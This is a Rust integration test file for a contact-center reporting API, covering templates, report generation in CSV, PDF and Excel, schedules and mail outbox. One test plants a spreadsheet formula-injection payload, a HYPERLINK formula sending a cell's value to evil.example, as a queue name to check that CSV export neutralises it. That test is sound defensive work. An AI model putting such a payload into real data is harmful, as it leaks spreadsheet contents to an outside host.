use frontline_platform::testing::TestApp;
use poem::http::StatusCode;
use serde_json::{json, Value};

async fn call(
    app: &TestApp,
    method: &str,
    path: &str,
    token: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    app.call(
        method,
        &format!("/contact-center/api{path}"),
        Some(token),
        body,
    )
    .await
    .parts()
}

async fn seed_calls(app: &TestApp) {
    app.platform.db.write(|tx| {
        tx.execute_batch(
            "INSERT INTO cc_teams (id, name, team_type, created_at, updated_at) VALUES
                (1, 'Sales East', 'sales', '2025-01-01T00:00:00Z', '2025-01-01T00:00:00Z'),
                (2, 'Support', 'support', '2025-01-01T00:00:00Z', '2025-01-01T00:00:00Z');
             INSERT INTO cc_calls (call_id, status, outcome, agent_id, team_id, duration, wait_time, started_at, created_at) VALUES
                ('a', 'completed', 'success', NULL, 1, 100, 10, '2025-11-03T10:00:00Z', '2025-11-03T10:00:00Z'),
                ('b', 'completed', 'no_answer', NULL, 1, 200, 20, '2025-11-04T10:00:00Z', '2025-11-04T10:00:00Z'),
                ('c', 'completed', 'converted', NULL, 2, 300, 30, '2025-11-04T11:00:00Z', '2025-11-04T11:00:00Z'),
                ('d', 'abandoned', 'timeout', NULL, 2, NULL, 90, '2025-11-05T11:00:00Z', '2025-11-05T11:00:00Z'),
                ('e', 'completed', 'success', NULL, 1, 999, 5, '2025-12-01T11:00:00Z', '2025-12-01T11:00:00Z');",
        )?;
        Ok(())
    }).await.unwrap();
}

/// Polls until the report is no longer generating (a generous deadline: CI
/// runs on a loaded box).
async fn wait_done(app: &TestApp, t: &str, id: i64) -> Value {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    while std::time::Instant::now() < deadline {
        let (_, r) = call(app, "GET", &format!("/reports/{id}"), t, None).await;
        if r["status"] != "generating" {
            return r;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("report {id} still generating");
}

#[tokio::test]
async fn templates_generate_and_download() {
    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
    let t = app.admin_token.clone();
    seed_calls(&app).await;
    let (s, tpl) = call(&app, "POST", "/reports/templates", &t, Some(json!({
        "name": "Weekly Sales Performance", "description": "Weekly report of sales team performance metrics",
        "report_type": "team_performance",
        "query_definition": {"metrics": ["total_calls", "success_rate", "avg_duration"], "filters": {"team_type": "sales"}, "grouping": ["team_id", "week"]},
        "default_format": "csv", "is_public": false, "version": 1}))).await;
    assert_eq!(s, StatusCode::CREATED, "{tpl}");
    let tid = tpl["id"].as_i64().unwrap();
    let (s, e) = call(
        &app,
        "POST",
        "/reports/templates",
        &t,
        Some(json!({"name": "x", "report_type": "gossip",
        "query_definition": {"metrics": ["vibes"]}, "default_format": "doc"})),
    )
    .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(e["errors"].as_array().unwrap().len() >= 2, "{e}");

    // A private template is invisible to a plain user.
    let user = app.token_for(&["contact-center:user"]).await;
    let (s, _) = call(
        &app,
        "GET",
        &format!("/reports/templates/{tid}"),
        &user,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (_, list) = call(
        &app,
        "GET",
        "/reports/templates?report_type=team_performance",
        &t,
        None,
    )
    .await;
    assert_eq!(list.as_array().unwrap().len(), 1);
    let (_, upd) = call(
        &app,
        "PUT",
        &format!("/reports/templates/{tid}"),
        &t,
        Some(json!({"is_public": true})),
    )
    .await;
    assert_eq!(upd["version"], 2);
    let (s, _) = call(
        &app,
        "GET",
        &format!("/reports/templates/{tid}"),
        &user,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::OK);

    let (s, acc) = call(
        &app,
        "POST",
        "/reports/generate",
        &t,
        Some(json!({
        "name": "Monthly Performance Report - November", "template_id": tid, "format": "csv",
        "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"},
        "parameters": {"include_charts": true, "include_raw_data": false}})),
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{acc}");
    assert_eq!(acc["status"], "generating");
    assert!(acc["estimated_completion"].is_string());
    let id = acc["id"].as_i64().unwrap();
    let r = wait_done(&app, &t, id).await;
    assert_eq!(r["status"], "completed", "{r}");
    assert_eq!(r["format"], "csv");
    assert!(r["file_size_bytes"].as_i64().unwrap() > 0);
    assert!(r["expires_at"].as_str().unwrap() > r["completed_at"].as_str().unwrap());
    let url = r["file_url"].as_str().unwrap().to_string();
    let resp = app
        .client
        .get(&url)
        .header("Authorization", format!("Bearer {t}"))
        .send()
        .await;
    resp.assert_status_is_ok();
    resp.assert_header("Content-Type", "text/csv; charset=utf-8");
    let csv = resp.0.into_body().into_string().await.unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    // Sales team only (team_type filter), November only: calls a and b, both in the
    // week of Monday 2025-11-03; one of the two completed calls succeeded.
    assert_eq!(
        lines[0],
        "team_id,week,total_calls,success_rate,avg_duration"
    );
    assert_eq!(lines[1], "Sales East (#1),2025-W45,2,0.5,150.0", "{csv}");
    assert_eq!(lines.len(), 2, "{csv}");
    assert_eq!(r["row_count"], 1);

    // Ad-hoc report without a template: daily call summary, all teams.
    let (_, acc) = call(&app, "POST", "/reports/generate", &t, Some(json!({"name": "Calls", "report_type": "call_summary",
        "format": "csv", "query_definition": {"metrics": ["total_calls", "abandoned_calls", "avg_wait_time"]},
        "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"}}))).await;
    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
    let resp = app
        .client
        .get(r["file_url"].as_str().unwrap())
        .header("Authorization", format!("Bearer {t}"))
        .send()
        .await;
    let csv = resp.0.into_body().into_string().await.unwrap();
    assert_eq!(csv, "day,total_calls,abandoned_calls,avg_wait_time\n2025-11-03,1,0,10.0\n2025-11-04,2,0,25.0\n2025-11-05,1,1,90.0\n");

    // Listing, filters, ownership.
    let (_, list) = call(&app, "GET", "/reports?status=completed", &t, None).await;
    assert_eq!(list.as_array().unwrap().len(), 2);
    let (_, mine) = call(&app, "GET", "/reports", &user, None).await;
    assert_eq!(mine.as_array().unwrap().len(), 0);
    let (s, _) = call(&app, "GET", &format!("/reports/{id}"), &user, None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // Bad requests.
    for body in [
        json!({"name": "x"}),
        json!({"name": "x", "template_id": 999}),
        json!({"name": "x", "report_type": "call_summary", "format": "docx"}),
        json!({"name": "x", "report_type": "call_summary", "filters": {"start_date": "2025-12-01", "end_date": "2025-11-01"}}),
        json!({"name": "x", "report_type": "call_summary", "filters": {"planet": "mars"}}),
    ] {
        let (s, e) = call(&app, "POST", "/reports/generate", &t, Some(body.clone())).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body} -> {e}");
    }

    let (s, _) = call(&app, "DELETE", &format!("/reports/{id}"), &t, None).await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let resp = app
        .client
        .get(&url)
        .header("Authorization", format!("Bearer {t}"))
        .send()
        .await;
    resp.assert_status(StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn schedule_fires_and_keeps_mail_in_outbox() {
    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
    let t = app.admin_token.clone();
    seed_calls(&app).await;
    let (_, tpl) = call(
        &app,
        "POST",
        "/reports/templates",
        &t,
        Some(json!({"name": "Daily calls",
        "report_type": "call_summary", "default_format": "csv"})),
    )
    .await;
    let tid = tpl["id"].as_i64().unwrap();
    let (s, e) = call(&app, "POST", "/reports/schedules", &t, Some(json!({"name": "Bad", "template_id": tid,
        "schedule_type": "weekly", "schedule_config": {"hour": 25, "timezone": "Nowhere/Land"}, "recipients": ["not-an-email"]}))).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    let (s, sch) = call(&app, "POST", "/reports/schedules", &t, Some(json!({
        "name": "Weekly Sales Report", "template_id": tid, "schedule_type": "weekly",
        "schedule_config": {"day_of_week": 1, "hour": 9, "minute": 0, "timezone": "America/Los_Angeles"},
        "format": "csv", "recipients": ["manager@example.com", "director@example.com"], "is_active": true}))).await;
    assert_eq!(s, StatusCode::CREATED, "{sch}");
    let next = chrono::DateTime::parse_from_rfc3339(sch["next_run_at"].as_str().unwrap()).unwrap();
    let local = next.with_timezone(&chrono_tz::America::Los_Angeles);
    assert_eq!(chrono::Datelike::weekday(&local), chrono::Weekday::Mon);
    assert_eq!(chrono::Timelike::hour(&local), 9);
    let sid = sch["id"].as_i64().unwrap();

    // Make it due and let the platform scheduler fire it.
    let name = format!("cc.report-schedule.{sid}");
    app.platform
        .db
        .write(move |tx| {
            tx.execute(
                "UPDATE platform_schedules SET next_run_at = 0 WHERE name = ?1",
                [&name],
            )?;
            frontline_platform::jobs::fire_due_schedules(tx, chrono::Utc::now())?;
            Ok(())
        })
        .await
        .unwrap();
    app.platform.jobs.notify();
    let mut outbox = Value::Null;
    // Polls for up to about 2 minutes (CI runs on a loaded box).
    for _ in 0..2400 {
        let (_, o) = call(&app, "GET", "/reports/outbox", &t, None).await;
        if !o.as_array().unwrap().is_empty() {
            outbox = o;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let m = &outbox[0];
    assert_eq!(m["status"], "kept", "{outbox}");
    assert_eq!(
        m["recipients"],
        json!(["manager@example.com", "director@example.com"])
    );
    assert!(m["subject"]
        .as_str()
        .unwrap()
        .starts_with("Report: Weekly Sales Report"));
    let rid = m["report_id"].as_i64().unwrap();
    let (_, r) = call(&app, "GET", &format!("/reports/{rid}"), &t, None).await;
    assert_eq!(r["status"], "completed");
    assert_eq!(r["schedule_id"], sid);
    assert!(m["body"].as_str().unwrap().contains("/files/"));
    // The link in the mail downloads the stored CSV without a token.
    let body = m["body"].as_str().unwrap();
    let link = body
        .lines()
        .find_map(|l| l.strip_prefix("Download: "))
        .unwrap()
        .to_string();
    let resp = app.client.get(&link).send().await;
    resp.assert_status_is_ok();
    let csv = resp.0.into_body().into_string().await.unwrap();
    assert!(csv.starts_with("day,total_calls"), "{csv}");

    let (_, list) = call(&app, "GET", "/reports/schedules?is_active=true", &t, None).await;
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert!(list[0]["last_run_at"].is_string());
    let (_, upd) = call(
        &app,
        "PUT",
        &format!("/reports/schedules/{sid}"),
        &t,
        Some(json!({"is_active": false})),
    )
    .await;
    assert_eq!(upd["is_active"], false);
    assert!(upd["next_run_at"].is_null());
    let (s, e) = call(
        &app,
        "DELETE",
        &format!("/reports/templates/{tid}"),
        &t,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::CONFLICT, "{e}");
    let (s, _) = call(
        &app,
        "DELETE",
        &format!("/reports/schedules/{sid}"),
        &t,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (s, _) = call(
        &app,
        "DELETE",
        &format!("/reports/templates/{tid}"),
        &t,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
}

/// Downloads a completed report's file with the bearer token.
async fn download(app: &TestApp, t: &str, r: &Value) -> (String, Vec<u8>) {
    let resp = app
        .client
        .get(r["file_url"].as_str().unwrap())
        .header("Authorization", format!("Bearer {t}"))
        .send()
        .await;
    resp.assert_status_is_ok();
    let ct = resp
        .0
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    (ct, resp.0.into_body().into_vec().await.unwrap())
}

/// The text of every zip entry of an XLSX whose name starts with `prefix`.
fn xlsx_text(bytes: &[u8], prefix: &str) -> String {
    use std::io::Read;
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = String::new();
    for i in 0..z.len() {
        let mut f = z.by_index(i).unwrap();
        if f.name().starts_with(prefix) {
            f.read_to_string(&mut out).unwrap();
        }
    }
    out
}

/// Issue 17 #2: every format the document names is rendered — PDF (with
/// charts when asked) and Excel as well as CSV — for generated and
/// scheduled reports; the files carry the report's figures.
#[tokio::test]
async fn pdf_and_excel_reports_carry_the_figures() {
    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
    let t = app.admin_token.clone();
    seed_calls(&app).await;
    let (s, tpl) = call(&app, "POST", "/reports/templates", &t, Some(json!({
        "name": "Weekly Sales Performance", "report_type": "team_performance",
        "query_definition": {"metrics": ["total_calls", "success_rate", "avg_duration"], "filters": {"team_type": "sales"}, "grouping": ["team_id", "week"]},
        "is_public": false}))).await;
    assert_eq!(s, StatusCode::CREATED, "{tpl}");
    assert_eq!(tpl["default_format"], "pdf");
    let tid = tpl["id"].as_i64().unwrap();

    // The document's example: PDF with charts.
    let generate = |format: &str, charts: bool| {
        json!({"name": "Monthly Performance Report - November", "template_id": tid, "format": format,
            "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"},
            "parameters": {"include_charts": charts, "include_raw_data": false}})
    };
    let (s, acc) = call(
        &app,
        "POST",
        "/reports/generate",
        &t,
        Some(generate("pdf", true)),
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{acc}");
    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
    assert_eq!(r["status"], "completed", "{r}");
    assert_eq!(r["format"], "pdf");
    let (ct, pdf) = download(&app, &t, &r).await;
    assert_eq!(ct, "application/pdf");
    assert!(pdf.starts_with(b"%PDF"));
    assert_eq!(r["file_size_bytes"], pdf.len() as i64);
    let text = pdf_extract::extract_text_from_mem(&pdf).expect("a readable PDF");
    for figure in [
        "Monthly Performance Report - November",
        "Sales East (#1)",
        "2025-W45",
        "50.0%",
        "150.00",
        "total calls", // the chart of total calls per group
    ] {
        assert!(text.contains(figure), "{figure:?} not in the PDF:\n{text}");
    }
    // Without charts: the same figures, no chart.
    let (_, acc) = call(
        &app,
        "POST",
        "/reports/generate",
        &t,
        Some(generate("pdf", false)),
    )
    .await;
    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
    assert_eq!(r["status"], "completed", "{r}");
    let (_, plain) = download(&app, &t, &r).await;
    let plain = pdf_extract::extract_text_from_mem(&plain).expect("a readable PDF");
    assert!(
        plain.contains("Sales East (#1)") && plain.contains("50.0%"),
        "{plain}"
    );
    assert!(
        !plain.contains("total calls"),
        "no chart asked for:\n{plain}"
    );

    // Excel: the figures as numbers, the labels as text.
    let (_, acc) = call(
        &app,
        "POST",
        "/reports/generate",
        &t,
        Some(generate("xlsx", true)),
    )
    .await;
    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
    assert_eq!(r["status"], "completed", "{r}");
    let (ct, xlsx) = download(&app, &t, &r).await;
    assert_eq!(
        ct,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(xlsx.starts_with(b"PK"));
    let strings = xlsx_text(&xlsx, "xl/sharedStrings.xml");
    let sheets = xlsx_text(&xlsx, "xl/worksheets/");
    let charts = xlsx_text(&xlsx, "xl/charts/");
    assert!(
        strings.contains("Sales East (#1)") && strings.contains("2025-W45"),
        "{strings}"
    );
    for v in ["<v>2</v>", "<v>0.5</v>", "<v>150</v>"] {
        assert!(sheets.contains(v), "{v} not in the sheets: {sheets}");
    }
    assert!(!charts.is_empty(), "native Excel charts");

    // A scheduled PDF report.
    let (s, sch) = call(
        &app,
        "POST",
        "/reports/schedules",
        &t,
        Some(json!({
        "name": "Weekly Sales Report", "template_id": tid, "schedule_type": "weekly",
        "schedule_config": {"day_of_week": 1, "hour": 9, "minute": 0, "timezone": "UTC"},
        "format": "pdf", "recipients": ["manager@example.com"], "is_active": true})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{sch}");
    let sid = sch["id"].as_i64().unwrap();
    let report = app
        .platform
        .db
        .read(move |c| {
            Ok(c.query_row(
                "SELECT COUNT(*) FROM cc_reports WHERE schedule_id = ?1",
                [sid],
                |r| r.get::<_, i64>(0),
            )?)
        })
        .await
        .unwrap();
    assert_eq!(report, 0);
    let value = frontline_contact_center::insight::reports::run_schedule(
        &app.platform,
        sid,
        chrono::DateTime::parse_from_rfc3339("2025-11-10T09:00:00Z")
            .unwrap()
            .with_timezone(&chrono::Utc),
    )
    .await
    .unwrap();
    assert_ne!(value["skipped"], true, "{value}");
    let (_, list) = call(&app, "GET", "/reports?status=completed", &t, None).await;
    let scheduled = list
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["schedule_id"] == sid)
        .unwrap_or_else(|| panic!("scheduled report completed: {list}"))
        .clone();
    assert_eq!(scheduled["format"], "pdf");
    let (_, pdf) = download(&app, &t, &scheduled).await;
    let text = pdf_extract::extract_text_from_mem(&pdf).expect("a readable PDF");
    // The week before Monday 2025-11-10: calls a and b of Sales East.
    assert!(
        text.contains("Sales East (#1)") && text.contains("50.0%"),
        "{text}"
    );
}

/// Issue 23 #2: a queue named like a formula comes out of a CSV report as
/// text (the platform's CSV writer prefixes the cell with a quote).
#[tokio::test]
async fn formula_names_are_neutralised_in_csv_reports() {
    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
    let t = app.admin_token.clone();
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let (s, q) = app
        .call(
            "POST",
            "/contact-center/api/v1/queues",
            Some(&t),
            Some(json!({"name": evil})),
        )
        .await
        .parts();
    assert_eq!(s, StatusCode::CREATED, "{q}");
    let qid = q["id"].as_i64().unwrap();
    app.platform
        .db
        .write(move |tx| {
            tx.execute(
                "INSERT INTO cc_calls (call_id, status, outcome, queue_id, duration, wait_time, started_at, created_at)
                 VALUES ('q1', 'completed', 'success', ?1, 60, 5, '2025-11-03T10:00:00Z', '2025-11-03T10:00:00Z')",
                [qid],
            )?;
            Ok(())
        })
        .await
        .unwrap();
    let (s, acc) = call(
        &app,
        "POST",
        "/reports/generate",
        &t,
        Some(json!({
        "name": "Queues", "report_type": "queue_performance", "format": "csv",
        "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"}})),
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{acc}");
    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
    assert_eq!(r["status"], "completed", "{r}");
    let (_, bytes) = download(&app, &t, &r).await;
    let csv = String::from_utf8(bytes).unwrap();
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.starts_with(&format!("\"'{}", evil.replace('"', "\"\""))),
        "{csv}"
    );
}

/// A template's version goes up by one on every change: a version near
/// i64::MAX was accepted and the next change answered 500.
#[tokio::test]
async fn template_versions_stay_in_range() {
    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
    let t = app.admin_token.clone();
    let body = |v: i64| json!({"name": "Versioned", "report_type": "call_summary", "version": v});
    let (s, e) = call(&app, "POST", "/reports/templates", &t, Some(body(i64::MAX))).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    assert_eq!(e["field"], "version", "{e}");
    let (s, tpl) = call(
        &app,
        "POST",
        "/reports/templates",
        &t,
        Some(body(1_000_000_000)),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{tpl}");
    let id = tpl["id"].as_i64().unwrap();
    let (s, upd) = call(
        &app,
        "PUT",
        &format!("/reports/templates/{id}"),
        &t,
        Some(json!({"name": "Renamed"})),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{upd}");
    assert_eq!(upd["version"], 1_000_000_001i64);
}
